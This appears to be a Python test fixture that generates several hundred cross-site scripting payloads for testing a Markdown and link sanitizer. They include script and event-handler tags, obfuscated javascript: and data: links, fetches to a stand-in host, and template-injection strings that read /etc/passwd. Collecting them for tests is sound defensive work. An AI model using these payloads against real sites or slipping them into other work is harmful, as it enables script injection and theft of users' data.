"""Texts that try to run a script, to fetch something, or to pass for a link: our own gathering, several hundred.

Each that runs sets `window.hit`; each that fetches asks `away.example`.
"""

from __future__ import annotations

from itertools import product

RUN = "window.hit=1"
AWAY = "https://away.example/x"

# What runs or fetches where it becomes an element.
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script src={AWAY}.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x oneRRor='{RUN}'>",
    f'<img src={AWAY} alt="`">',
    f'<img srcset="{AWAY} 1x">',
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href={AWAY}.svg#a></use></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<html onfocusin={RUN} tabindex=1>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a autofocus href=# onfocus={RUN} tabindex=0>x</a>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={AWAY}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN} src=x></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<frameset onload={RUN}></frameset>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data={AWAY}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<embed src={AWAY}>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=preload as=image href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>",
    "<base href=https://away.example/>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>x</p>",
    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
    f"<x onclick={RUN} tabindex=1>x</x>",
    f"<x contenteditable onblur={RUN}>x</x>",
    f"<x onpointerrawupdate={RUN}>x</x>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<portal src={AWAY}></portal>",
    f"<table background={AWAY}><td background={AWAY}>x</td></table>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<xml><x><![CDATA[<img src=x onerror={RUN}>]]></x></xml>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{AWAY}'?><x/>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<!doctype x [<!entity e SYSTEM '{AWAY}'>]>&e;",
)  # fmt: skip

# What might end the place in which such an element would only be text.
ENDINGS = (
    "",
    '">',
    "'>",
    "--></style></script></title></textarea></noscript>",
    "]]>\n\n",
    "`</code></pre></q>",
)

# What might run where it becomes the address of a link.
SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\0script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&#10;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6a;avascript&#58;{RUN}",
    f"%6aavascript:{RUN}",
    f"jav\u00adascript:{RUN}",
    f"\u202ejavascript:{RUN}",
    f"ｊavascript:{RUN}",
    f"javascript://away.example/%0a{RUN}",
    f"javascript:https://away.example/;{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:{RUN}",
    "file:///etc/passwd",
    "view-source:https://away.example/",
    "ftp://away.example/",
    "discord://-/invite/x",
    "tel:+100",
    f"//away.example/{RUN}",
    f"https:javascript:{RUN}",
    f"https://\" onmouseover={RUN} x=\"",
    f"https://away.example/'onfocus={RUN} autofocus x='",
    f"https://away.example/><img src=x onerror={RUN}>",
    f"mailto:a@b\"onclick={RUN}",
    f"mailto:a@b?subject=<svg onload={RUN}>",
)  # fmt: skip

# How a link may be written in Discord's Markdown, or in a Markdown that isn't Discord's.
WRITTEN = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "{}",
    "![x]({})",
    "[x]: {}\n\n[x]",
    "[https://example.org]({})",
    '[x](https://example.org "{}")',
)

OTHERS = (
    "{{7*7}}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "{{constructor.constructor('window.hit=1')()}}",
    "\ufeff+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "\u2028<script>window.hit=1</script>\u2029",
    "＜script＞window.hit=1＜/script＞",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "\\<script\\>window.hit=1\\</script\\>",
    "||<img src=x onerror=window.hit=1>||",
    "```html\n<img src=x onerror=window.hit=1>\n```",
    "`<img src=x onerror=window.hit=1>`",
    "> <img src=x onerror=window.hit=1>\n- <svg onload=window.hit=1>\n# <svg onload=window.hit=1>",
    "<t:1:R\"onload=window.hit=1> <@1><img src=x onerror=window.hit=1> <:x:1><a:y:2>",
    "\u202e\u2066<script>window.hit=1</script>\u2069\u202c",
    "<\0script>window.hit=1</\0script>",
    "\ud83d<script>window.hit=1</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return all of them, the same in the same order every time."""
    elements = [end + element for end, element in product(ENDINGS, ELEMENTS)]
    links = [form.format(address) for form, address in product(WRITTEN, SCHEMES)]
    return [*elements, *links, *OTHERS]
